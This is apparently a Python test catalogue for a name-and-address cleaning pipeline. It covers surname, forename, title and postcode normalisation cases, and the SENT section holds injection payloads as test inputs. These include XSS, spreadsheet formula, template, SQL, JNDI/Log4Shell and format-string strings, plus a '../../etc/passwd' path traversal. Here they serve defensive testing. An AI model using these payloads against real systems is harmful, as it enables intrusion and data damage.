"""G., H. and J. Every further wording of names, addresses and hostile text that the brief names."""

from __future__ import annotations

from collections.abc import Callable

from cases import Tried

from catalogue.g_names import ONE, _case, _is, _two, _written

#: Case, surname as written, surname as compared, code.
_SURNAMES: tuple[tuple[int, str, str | None, str | None], ...] = (
    *((121, text, None, "NAME_PLACEHOLDER") for text in (" unknown ", "n/a", "Tbc", "xxx", "Not Given")),
    (121, "--", None, "NAME_UNREADABLE"),
    (123, "Occupier", None, "NON_PERSON"),
    (123, "Void Property", None, "NON_PERSON"),
    (123, "EXECUTORS OF ALDER", "ALDER", "NON_PERSON"),
    (124, "ALDER", "ALDER", None),
    (124, "alder", "ALDER", None),
    (128, "Alder Jr", "ALDER", None),
    (128, "Alder MBE", "ALDER", None),
    (130, "ONeil", "ONEIL", None),
    (130, "O`Neil", "ONEIL", None),
    (130, "McAlder", "MCALDER", None),
    (130, "MacAlder", "MACALDER", None),
    (130, "Alder-Brook", "ALDER BROOK", None),
    (130, "Alder\u2010Brook", "ALDER BROOK", None),
    (130, "St John", "ST JOHN", None),
    (130, "St. John", "ST JOHN", None),
    (130, "de la Mare", "DE LA MARE", None),
    (131, "Alder nee Brook", "ALDER", "ALIAS_FOUND"),
    (131, "Alder (aka Brook)", "ALDER", "ALIAS_FOUND"),
    (134, "Alder (Deceased)", "ALDER", "DECEASED_MARKER"),
    (134, "ALDER DEC'D", "ALDER", "DECEASED_MARKER"),
    (135, "Ald3r", "ALDER", "NAME_HAS_DIGITS"),  # read by its shape
    (136, "Do not use", None, "RECORD_MARKED_VOID"),
    (170, "\u0391LDER", "ALDER", "MIXED_SCRIPT"),  # a Greek letter
    (170, "ALD\u0415R", "ALDER", "MIXED_SCRIPT"),
    *((171, f"Al{sign}der", "ALDER", "INVISIBLE_CHARS") for sign in ("\u200c", "\u200d", "\u2060")),
    *((172, f"Al{sign}der", "ALDER", "BIDI_CONTROL")
      for sign in ("\u202a", "\u202b", "\u202c", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069")),
    (173, "Alder \U0001f1ec\U0001f1e7", "ALDER", None),
    (174, "Ll\u0175yd", "LLWYD", None),
    (174, "Llw\u0302yd", "LLWYD", None),
    (175, "A\u0300\u0301\u0302lder", "ALDER", None),  # three marks are still writing
    (176, "\ufb03nch", "FFINCH", None),
    (177, "\u0110inh", "DINH", None),
)  # fmt: skip

#: Case and a text that is shown as it was sent; in an address, where figures are nothing odd.
_AS_SENT = (
    (178, '"><img src=x onerror=alert(1)>'),
    (179, '=HYPERLINK("http://example.org","see")'),
    (179, "+44 1632 960001"),
    (179, "-1"),
    (179, "@SUM(A1)"),
    (180, "{{7*7}}"),
    (180, "{0.__class__}"),
    (180, "'; DROP TABLE records; --"),
    (180, "${jndi:ldap://example.org/x}"),
    (180, "%n%n%s"),
    (184, "ROW_TOO_FEW_FIELDS|refused;2,3"),
)


def _shown(text: str) -> Callable[[Tried], None]:
    """The first row's address is shown as it was sent."""

    def check(one: Tried) -> None:
        assert text in one.record(ONE)["address_as_written"]

    return check


def _reference(one: Tried) -> None:
    assert one.prepared.records["source_ref"].to_pylist()[0] == "../../etc/passwd"


NAMES = [
    _case(number, f"surname {text!a}"[:60], {code: 1} if code else {}, _is(surname=key), Surname=text)
    for number, text, key, code in _SURNAMES
]
FORENAMES = [
    *(_case(122, f"the forename {name}", {}, _is(forename=name.upper()), Forename=name)
      for name in ("Null", "None", "True", "May", "Jan")),
    _case(121, "a forename that is none", {"NAME_PLACEHOLDER": 1}, _is(forename=None), Forename="UNKNOWN"),
    *(_case(128, f"title {title!a}", {}, _is(title=key), Title=title)
      for title, key in (("Dr", "DR"), ("Cllr", "CLLR"), ("Rev'd", "REV"), ("Dr.", "DR"))),
    _case(132, "a mononym", {}, _is(forename=None, surname="SUKARNO"), Forename="", Surname="Sukarno"),
    _case(132, "a forename of one letter", {}, _is(forename="U"), Forename="U"),
    _case(132, "a forename of 80 letters", {}, _is(forename="B" * 80), Forename="B" * 80),
    _case(133, "two initials", {}, _is(forename="J"), Forename="J A"),
    _case(133, "initials with points", {}, _is(forename="J"), Forename="J.A."),
    _case(127, "two people and a sign", {"MULTIPLE_PERSONS": 1}, _two({"surname": "ALDER"}, {"surname": "PATEL"}),
          Title="", Forename="", Surname="J Alder & A Patel"),
    _case(126, "a couple in words", {"JOINT_NAME": 1}, _two({"surname": "ALDER"}, {"surname": "ALDER"}),
          Title="", Forename="", Surname="Mr and Mrs J Alder"),
    _case(129, "a whole name without a comma", {"NAME_PARSED": 1}, _is(forename="JOHN", surname="ALDER"),
          Title="", Forename="", Surname="John Alder"),
    _case(129, "a whole name with its title", {"NAME_PARSED": 1}, _is(title="MR", forename="JOHN", surname="ALDER"),
          Title="", Forename="", Surname="Mr John Alder"),
    *(_case(129, f"a surname of two words {name!a}", {}, _is(forename=None, surname=name.upper()), Title="", Forename="",
            Surname=name) for name in ("Van Dyke", "St John", "Alder Brook", "De Marco")),
    _case(138, "another romanisation", {}, _is(forename="MUHAMMAD"), Forename="Muhammad"),
]  # fmt: skip
ADDRESSES = [
    *(_case(139, f"postcode {text!a}", {}, _is(postcode="GL1 1AB"), Postcode=text)
      for text in ("GL11AB", "gl1 1ab", "  GL1   1AB ", "\u200bGL1 1AB\ufeff", "GL1\u2009\u00a01AB", "G L 1 1 A B")),
    *(_case(140, f"postcode {text!a}", {"POSTCODE_CORRECTED": 1}, _is(postcode="GL1 1AB"), Postcode=text)
      for text in ("GLI 1AB", "GL1 IAB", "GL1 lAB")),
    _case(141, "no fixed abode in words", {"POSTCODE_PLACEHOLDER": 1}, _is(postcode=None), Postcode="No fixed abode"),
    *(_case(143, f"address {text!a}", {"EXCEL_DATE_IN_ADDRESS": 1}, _is(town="EXAMPLETON"), Address=f"{text}, Quarry Lane, Exampleton")
      for text in ("5-Jul", "Jul-05", "05-JUL")),
    _case(144, "commas alone", {}, _is(number="5", street="QUARRY LANE", town="EXAMPLETON"),
          Address=", , 5 Quarry Lane,, ,Exampleton,"),
    _case(145, "forces post with a postcode", {}, _is(postcode=None), Address="BFPO 12", Postcode="BF1 3AA"),
]  # fmt: skip
SENT = [
    *(_case(number, f"in an address {text!a}", {}, _shown(text), Address=text) for number, text in _AS_SENT),
    _case(182, "a path as a reference", {}, _reference, Ref="../../etc/passwd"),
    _case(180, "a template as a name", {}, _written("{x}"), Surname="Alder {x}"),
]

CASES = [*NAMES, *FORENAMES, *ADDRESSES, *SENT]
